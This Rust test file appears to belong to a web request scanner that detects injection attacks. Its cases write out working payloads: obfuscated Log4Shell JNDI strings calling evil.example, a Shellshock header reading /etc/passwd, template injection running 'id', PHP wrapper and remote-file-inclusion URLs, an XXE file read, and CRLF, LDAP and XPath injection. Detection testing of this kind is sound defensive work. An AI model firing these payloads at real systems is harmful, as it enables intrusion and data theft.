use serde_json::{Value, json};

use super::*;
use crate::detect::{
    content::Bodies,
    test_events::{T0, exchange, typed},
    view::View,
};

fn judge(event: &Value, body: &[u8]) -> Option<Value> {
    let typed = typed(event);
    let bodies = Bodies {
        request: body.to_vec().into(),
        response: Vec::new().into(),
        ..Default::default()
    };
    let v = View::with_bodies(&typed, T0, &bodies.request, &bodies.response).expect("view");
    inj3(&v)
}

fn with_header(name: &str, value: &str) -> Value {
    exchange("GET", "/api/items", 200, json!({ name: value }))
}

fn hit(event: &Value, body: &[u8]) -> (String, String) {
    let found = judge(event, body).unwrap_or_else(|| panic!("no INJ-3 for {event}"));
    (
        found["kind"].as_str().unwrap_or_default().to_owned(),
        found["input"].as_str().unwrap_or_default().to_owned(),
    )
}

#[test]
fn jndi_lookups_plain_encoded_and_obfuscated() {
    for (where_, value) in [
        ("user-agent", "${jndi:ldap://198.51.100.7:1389/a}"),
        ("x-api-version", "${jndi:rmi://evil.example/x}"),
        (
            "referer",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        ),
        (
            "x-forwarded-for",
            "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}",
        ),
        (
            "user-agent",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}",
        ),
        ("user-agent", "${JnDi:dns://x.example}"),
    ] {
        assert_eq!(
            hit(&with_header(where_, value), b""),
            ("jndi_lookup".to_owned(), format!("header.{where_}")),
            "{value}"
        );
    }
    let query = exchange(
        "GET",
        "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
        200,
        json!({}),
    );
    assert_eq!(hit(&query, b""), ("jndi_lookup".into(), "query.q".into()));
}

#[test]
fn every_family_in_its_location() {
    let cases: Vec<(Value, &[u8], &str, &str)> = vec![
        (
            with_header("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
            b"",
            "shellshock",
            "header.user-agent",
        ),
        (
            exchange("GET", "/greet?name=%7B%7B7*7%7D%7D", 200, json!({})),
            b"",
            "template_injection",
            "query.name",
        ),
        (
            exchange("GET", "/greet?name={{''.__class__.__mro__}}", 200, json!({})),
            b"",
            "template_injection",
            "query.name",
        ),
        (
            exchange("GET", "/p/%24%7B7*7%7D", 200, json!({})),
            b"",
            "template_injection",
            "path[1]",
        ),
        (
            exchange(
                "GET",
                "/x?expr=*%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
                200,
                json!({}),
            ),
            b"",
            "template_injection",
            "query.expr",
        ),
        (
            exchange("GET", "/x?t=%3C%25%3D%207*7%20%25%3E", 200, json!({})),
            b"",
            "template_injection",
            "query.t",
        ),
        (
            exchange(
                "GET",
                "/cart",
                200,
                json!({ "cookie": "theme=dark; cart=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}" }),
            ),
            b"",
            "php_object_injection",
            "cookie.cart",
        ),
        (
            exchange("GET", "/view?f=expect://id", 200, json!({})),
            b"",
            "php_wrapper",
            "query.f",
        ),
        (
            exchange("GET", "/view?f=data://text/plain;base64,PD9waHAgc3lzdGVtKCk7Pz4=", 200, json!({})),
            b"",
            "php_wrapper",
            "query.f",
        ),
        (
            exchange(
                "GET",
                "/app",
                200,
                json!({ "cookie": "state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC" }),
            ),
            b"",
            "java_deserialization",
            "cookie.state",
        ),
        (
            exchange("POST", "/import", 200, json!({ "content-type": "application/xml" })),
            br#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>"#,
            "xxe",
            "body.xml",
        ),
        (
            exchange("GET", "/go?next=%0d%0aSet-Cookie:%20admin=1", 200, json!({})),
            b"",
            "crlf_injection",
            "query.next",
        ),
        (
            exchange("GET", "/index.php?page=http://evil.example/shell.txt?", 200, json!({})),
            b"",
            "remote_file_inclusion",
            "query.page",
        ),
        (
            exchange("GET", "/index.php?file=https://evil.example/x.php", 200, json!({})),
            b"",
            "remote_file_inclusion",
            "query.file",
        ),
        (
            exchange("POST", "/render", 200, json!({ "content-type": "application/json" })),
            br#"{"doc":{"title":"{{config.items()}}"}}"#,
            "template_injection",
            "body.doc.title",
        ),
        (
            exchange("GET", "/directory?user=*)(uid=*))(|(uid=*", 200, json!({})),
            b"",
            "ldap_injection",
            "query.user",
        ),
        (
            exchange("GET", "/directory?mail=*(%7C(objectclass=*))", 200, json!({})),
            b"",
            "ldap_injection",
            "query.mail",
        ),
        (
            exchange("GET", "/login?name=x'%20or%20name()='admin'%20or%20'x'='y", 200, json!({})),
            b"",
            "xpath_injection",
            "query.name",
        ),
        (
            exchange("GET", "/tree?q=count(/child::node())", 200, json!({})),
            b"",
            "xpath_injection",
            "query.q",
        ),
    ];
    for (event, body, kind, input) in cases {
        let (found_kind, found_input) = hit(&event, body);
        assert_eq!(found_kind, kind, "{event}");
        assert_eq!(found_input, input, "{event}");
    }
}

#[test]
fn ordinary_requests_are_left_alone() {
    let benign: Vec<(Value, &[u8])> = vec![
        (
            with_header(
                "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            ),
            b"",
        ),
        (with_header("referer", "https://shop.example/search?q=shoes&page=2"), b""),
        (with_header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), b""),
        (with_header("cookie", "session=abc123; theme=dark; consent=1"), b""),
        (with_header("if-modified-since", "Tue, 21 Nov 2025 04:40:00 GMT"), b""),
        (exchange("GET", "/api/orders?since=2024-05-01T10:00:00Z&sort=-created", 200, json!({})), b""),
        (exchange("GET", "/login?redirect=https://shop.example/account", 200, json!({})), b""),
        (exchange("GET", "/search?q=%7B%7Bname%7D%7D+template", 200, json!({})), b""),
        (exchange("GET", "/search?q=price+%24%7Bamount%7D", 200, json!({})), b""),
        (
            exchange("POST", "/mail", 200, json!({ "content-type": "application/json" })),
            br#"{"to":"a@b.example","body":"Dear {{first_name}},\nLocation: Berlin\nThanks"}"#,
        ),
        (
            exchange("POST", "/notes", 200, json!({ "content-type": "application/json" })),
            br#"{"code":"function f() { return 1; }","url":"https://docs.example/x.php"}"#,
        ),
        (
            exchange("POST", "/feed", 200, json!({ "content-type": "application/xml" })),
            br#"<?xml version="1.0"?><rss><channel><title>News &amp; views</title></channel></rss>"#,
        ),
        (exchange("GET", "/go/o:1/status:ok", 200, json!({})), b""),
        (exchange("GET", "/search?q=(a)(b=c)+and+f()", 200, json!({})), b""),
        (exchange("GET", "/search?q=AT%26T+%26+R%26D+(US)", 200, json!({})), b""),
        (
            exchange("POST", "/snippets", 200, json!({ "content-type": "application/json" })),
            br#"{"code":"std::vector<int> v; v.size(); items.filter(|(k, v)| k == v)"}"#,
        ),
    ];
    for (event, body) in benign {
        assert_eq!(judge(&event, body), None, "{event}");
    }
}

#[test]
fn decoding_steps() {
    assert_eq!(normalise("%2524%257Bjndi"), "${jndi");
    assert_eq!(normalise("%u0024%u007B7*7}"), "${7*7}");
    assert_eq!(normalise("&#36;&#x7b;jndi:&lt;"), "${jndi:<");
    assert_eq!(normalise("&unknown; & &#xZZ;"), "&unknown; & &#xzz;");
    assert_eq!(normalise("%u12"), "%u12");
    // Numeric references without `;`, legacy named ones inside a word.
    assert_eq!(
        normalise("&#0000106&#x61vascript&ltscript&gt"),
        "javascript<script>"
    );
    assert_eq!(normalise("AT&T &copy &tab;"), "at&t &copy \t");
    // Hex escapes only: a Windows path keeps its `\\new`.
    assert_eq!(normalise("\\x27\\u003Cb\\xZZ"), "'<b\\xzz");
    assert_eq!(normalise("C:\\new\\temp"), "c:\\new\\temp");
    assert_eq!(normalise("é%C3%A9"), "éé");
    // The bound falls inside a two-byte character: cut before it, never past the bound.
    let long = format!("a{}", "é".repeat(5000));
    assert_eq!(normalise(&long).len(), 8191);
}

#[test]
fn work_per_request_is_bounded() {
    // Thousands of parameters: only MAX_VALUES are examined; the padding is itself reported.
    let query: Vec<String> = (0..5000).map(|i| format!("k{i}=%24%7B{i}")).collect();
    let path = format!("/x?{}&late=%24%7Bjndi:ldap://x/a%7D", query.join("&"));
    let found = judge(&exchange("GET", &path, 200, json!({})), b"").expect("reported");
    assert_eq!(found["kind"], "inspection_limit");
    // 300 ordinary parameters are examined, all of them.
    let query: Vec<String> = (0..300).map(|i| format!("k{i}=v{i}")).collect();
    let path = format!("/x?{}", query.join("&"));
    assert_eq!(judge(&exchange("GET", &path, 200, json!({})), b""), None);
    let long = format!("/x?v={}", "%24%7B".repeat(10_000));
    assert_eq!(judge(&exchange("GET", &long, 200, json!({})), b""), None);
}

#[test]
fn common_header_values_are_never_decoded() {
    for value in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "127.0.0.1:8443",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Tue, 21 Nov 2025 04:40:00 GMT",
        "gzip, deflate, br",
        "keep-alive",
        "curl/7.88.1",
        "python-requests/2.31",
    ] {
        assert!(!may_carry(value), "{value}");
    }
    for value in [
        "${x}",
        "() { :;};",
        "rO0ABXNy",
        "a%0d",
        "https://x",
        "O:8:\"a\"",
    ] {
        assert!(may_carry(value), "{value}");
    }
}

#[test]
fn the_short_and_long_pre_checks_agree() {
    let samples = [
        "",
        "a",
        "${x}",
        "() { :;};",
        "(|",
        "@(",
        ")(",
        "a:b",
        "a:\"b",
        "http://x",
        "x//y:",
        "rO0ABXNy",
        "ACED0005aa",
        "a%0d",
        "<",
        "&amp",
        "#",
        "x\ny",
        "x\r",
        "(",
        "()",
        "a(b)c",
        "@x(",
        "127.0.0.1:8443",
        "Mozilla/5.0 (Windows NT 10.0)",
        "é:\"",
        "//:",
        "(a|b)",
    ];
    for s in samples {
        assert_eq!(may_carry(s), may_carry_long(s), "{s:?}");
        // The same values past the length where the long path takes over.
        let long = format!("{s}{}", "x".repeat(300));
        assert_eq!(may_carry(&long), may_carry_long(&long), "{long:?}");
        let tail = format!("{}{s}", "x".repeat(300));
        assert_eq!(may_carry(&tail), may_carry_long(&tail), "{tail:?}");
    }
}
